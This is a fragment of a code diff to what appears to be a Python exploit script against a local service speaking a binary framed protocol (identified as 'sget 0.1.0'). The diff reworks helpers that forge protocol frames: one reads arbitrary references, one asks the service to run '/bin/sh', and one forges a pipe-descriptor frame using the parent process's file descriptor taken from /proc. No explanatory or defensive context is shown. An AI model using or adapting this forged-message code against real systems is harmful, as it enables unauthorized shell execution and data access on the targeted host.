@@ -119,8 +119,8 @@ import os, socket, struct, subprocess, sys, time
 def text(s): return struct.pack('>H', len(s)) + s.encode()
 def frame(kind, id, body): return struct.pack('>IBI', len(body) + 5, kind, id) + body
 hello = frame(1, 0, struct.pack('>HB', 1, 0) + text('sget 0.1.0'))
-def read(ref): return frame(2, 1, b'\\0' + text('') + text('') + struct.pack('>H', 1) + text('') + text(ref))
-def run(ref): return frame(2, 1, b'\\1' + text('') + text('sh') + struct.pack('>H', 1) + text('X') + text(ref))
+def read(ref): return frame(2, 1, b'\\0' + text('') + struct.pack('>H', 1) + text('') + text(ref))
+def run(ref): return frame(0x21, 1, b'\\1' + text('') + text('/bin/sh') + text('0' * 64) + struct.pack('>H', 0) + text('') + struct.pack('>HH', 0, 1) + text('X') + text(ref))
 def forged():
     pipe = os.readlink('/proc/%d/fd/3' % os.getppid()) if os.path.exists('/proc/%d/fd/3' % os.getppid()) else 'pipe:[1]'
     return frame(0x1f, 0, struct.pack('>IIIIIB', 14, 0, int(pipe[6:-1]), 0, 0o10600, 1) + text(pipe) + text('0' * 64))
